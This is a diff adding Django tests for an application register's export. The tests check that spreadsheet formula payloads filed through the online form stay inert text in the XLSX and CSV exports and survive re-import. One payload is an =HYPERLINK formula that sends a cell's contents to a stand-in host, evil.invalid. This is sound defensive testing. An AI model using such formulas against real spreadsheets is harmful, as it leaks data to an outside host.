@@ -2,7 +2,9 @@
 
 from __future__ import annotations
 
+import csv
 import io
+import zipfile
 from datetime import date, datetime
 from typing import Any
 from zoneinfo import ZoneInfo
@@ -146,3 +148,85 @@ def test_import_pages(client: Client) -> None:
     assert client.get(reverse("office:register_import")).status_code == 403
     export = client.get(reverse("office:register_export"))
     assert export.status_code == 200 and export.content[:2] == b"PK"
+
+
+# An application filed anonymously online whose fields are spreadsheet formulas (issue 14).
+HOSTILE = {
+    "申请人": '=HYPERLINK("http://evil.invalid/?x="&A1,"click")',
+    "联系电话": "=1+1",
+    "申请内容": "@SUM(1+1) 以及 -2+3 号文件",
+}
+
+
+def _file_hostile_application(agency: Any) -> Application:
+    response = Client().post(
+        reverse("portal:apply"),
+        {
+            "applicant-kind": "natural_person",
+            "applicant-name": HOSTILE["申请人"],
+            "applicant-id_type": "resident_id",
+            "applicant-id_number": "11010519491231002X",
+            "applicant-phone": HOSTILE["联系电话"],
+            "case-agency": agency.pk,
+            "case-description": HOSTILE["申请内容"],
+            "case-confirm": "on",
+        },
+    )
+    assert response.status_code == 302, response.content.decode()
+    return Application.objects.select_related("applicant").get()
+
+
+def _export(agency: Any, fmt: str = "") -> bytes:
+    client = Client()
+    client.force_login(factories.staff(agency, Role.HANDLER))
+    response = client.get(reverse("office:register_export"), {"format": fmt} if fmt else {})
+    assert response.status_code == 200
+    return response.content
+
+
+def _reimport(agency: Any, content: bytes, name: str) -> Application:
+    """Removes the case and imports the exported register in its place."""
+    for case in Application.objects.select_related("applicant"):
+        case.delete()
+        case.applicant.delete()
+    head = factories.staff(agency, Role.HEAD)
+    assert register.import_batch(_batch(agency, content, name), head, TODAY) == 1
+    return Application.objects.select_related("applicant").get()
+
+
+def test_formulas_filed_online_are_text_cells_in_the_xlsx_export() -> None:
+    agency = factories.agency()
+    case = _file_hostile_application(agency)
+    assert (case.applicant.name, case.applicant.phone) == (
+        HOSTILE["申请人"],
+        HOSTILE["联系电话"],
+    )
+    content = _export(agency)
+    with zipfile.ZipFile(io.BytesIO(content)) as package:
+        sheets = [n for n in package.namelist() if n.startswith("xl/worksheets/")]
+        xml = b"".join(package.read(n) for n in sheets).decode()
+    assert "<f>" not in xml and "<f " not in xml and "evil.invalid" in xml
+    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
+    header = [c.value for c in sheet[1]]
+    row = dict(zip(header, sheet[2], strict=True))
+    for column, payload in HOSTILE.items():
+        assert row[column].data_type == "s" and row[column].value == payload
+    again = _reimport(agency, content, "台账.xlsx")
+    assert (again.applicant.name, again.applicant.phone, again.description) == tuple(
+        HOSTILE.values()
+    )
+
+
+def test_formulas_filed_online_are_quoted_in_the_csv_export_and_read_back() -> None:
+    agency = factories.agency()
+    _file_hostile_application(agency)
+    content = _export(agency, "csv")
+    lines = list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
+    row = dict(zip(lines[0], lines[1], strict=True))
+    for column, payload in HOSTILE.items():
+        assert row[column] == "'" + payload
+    assert row["收到日期"] == "2026-03-31" and row["申请渠道"] == "网上申请"
+    again = _reimport(agency, content, "台账.csv")
+    assert (again.applicant.name, again.applicant.phone, again.description) == tuple(
+        HOSTILE.values()
+    )
